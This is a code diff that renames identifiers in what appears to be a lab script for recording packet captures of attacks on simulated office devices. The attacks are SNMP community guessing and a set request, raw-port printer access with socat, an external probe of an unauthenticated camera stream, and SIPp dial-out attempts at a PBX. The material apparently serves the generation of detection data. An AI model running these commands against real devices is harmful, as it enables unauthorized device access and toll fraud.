@@ -1,6 +1,6 @@
-"""Devices of an office under attack: an agent whose community is guessed with Net-SNMP and set to something else, a
-printer whose files are read over its raw port, a camera that shows itself to somebody outside, and an exchange through
-which sipp looks for a way to dial out. Needs snmp, socat, ffmpeg, sip-tester.
+"""Attacks on office devices: SNMP community guessing and a set request (Net-SNMP), file access on a printer over its
+raw port, an external client of an unauthenticated camera stream, dial-out prefixes tried at a PBX (SIPp). Needs snmp,
+socat, ffmpeg, sip-tester.
 
 Run it as ``python -m pcaps.lab.attacks.devices [SCENE...]``.
 """
@@ -14,8 +14,8 @@ from pathlib import Path
 from pcaps._office_hosts import cameras, printers
 from pcaps.lab._lab import Lab, record
 
-ATTACKER, OUTSIDE = "10.20.10.66", "203.0.113.80"
-WORDS = (
+ATTACKER, EXTERNAL = "10.20.10.66", "203.0.113.80"
+COMMUNITIES = (
     "public",
     "private",
     "cisco",
@@ -43,33 +43,33 @@ NUMBERS = (
 )
 
 
-def guessing(lab: Lab) -> Iterator[None]:
-    """The last word of the list is right."""
+def community_guessing(lab: Lab) -> Iterator[None]:
+    """The last community of the list is correct."""
     core, attacker = lab.host("core", "10.20.10.2"), lab.host("attacker", ATTACKER)
-    lab.serve(core, "agent", "core switch", WORDS[-1], port=161, proto="udp")
+    lab.serve(core, "agent", "core switch", COMMUNITIES[-1], port=161, proto="udp")
     yield
-    for word in WORDS:
-        lab.run(attacker, "snmpget", "-v2c", "-c", word, "-t", "0.3", "-r", "0", core.ip, "1.3.6.1.2.1.1.1.0")
-    lab.run(attacker, "snmpset", "-v2c", "-c", WORDS[-1], "-t", "0.5", "-r", "0", core.ip, CONTACT, "s", "nobody")
+    for community in COMMUNITIES:
+        lab.run(attacker, "snmpget", "-v2c", "-c", community, "-t", "0.3", "-r", "0", core.ip, "1.3.6.1.2.1.1.1.0")
+    lab.run(attacker, "snmpset", "-v2c", "-c", COMMUNITIES[-1], "-t", "0.5", "-r", "0", core.ip, CONTACT, "s", "nobody")
     time.sleep(1)
 
 
 def files(lab: Lab) -> Iterator[None]:
     attacker = lab.host("attacker", ATTACKER)
     yield
-    printer = lab.inhabitant(printers()[0])
+    printer = lab.device(printers()[0])
     lab.serve(printer, "printer", port=9100)
     lab.run(attacker, "sh", "-c", f"(printf '{JOB}'; sleep 1) | socat -t 1 - TCP:{printer.ip}:9100")
     time.sleep(1)
 
 
 def stream(lab: Lab) -> Iterator[None]:
-    watcher = lab.outside("watcher", OUTSIDE)
+    client = lab.external("watcher", EXTERNAL)
     yield
-    camera = lab.inhabitant(cameras()[1])
+    camera = lab.device(cameras()[1])
     lab.serve(camera, "stream", port=554)
     lab.run(
-        watcher,
+        client,
         "ffprobe",
         "-v",
         "error",
@@ -83,9 +83,9 @@ def stream(lab: Lab) -> Iterator[None]:
 
 
 def dialling(lab: Lab) -> Iterator[None]:
-    """No prefix leads out of this exchange."""
-    exchange, caller = lab.host("exchange", "10.20.10.5"), lab.outside("caller", OUTSIDE)
-    lab.serve(exchange, "registrar", port=5060, proto="udp")
+    """The PBX rejects all prefixes."""
+    pbx, caller = lab.host("exchange", "10.20.10.5"), lab.external("caller", EXTERNAL)
+    lab.serve(pbx, "registrar", port=5060, proto="udp")
     yield
     for number in NUMBERS:
         lab.run(
@@ -96,13 +96,13 @@ def dialling(lab: Lab) -> Iterator[None]:
             "-s",
             number,
             "-i",
-            OUTSIDE,
+            EXTERNAL,
             "-m",
             "1",
             "-nostdin",
             "-timeout",
             "3s",
-            f"{exchange.ip}:5060",
+            f"{pbx.ip}:5060",
         )
     time.sleep(1)
 
@@ -110,7 +110,7 @@ def dialling(lab: Lab) -> Iterator[None]:
 if __name__ == "__main__":
     record(
         Path(__file__).parent,
-        devices_snmp=guessing,
+        devices_snmp=community_guessing,
         devices_printer=files,
         devices_camera=stream,
         devices_exchange=dialling,
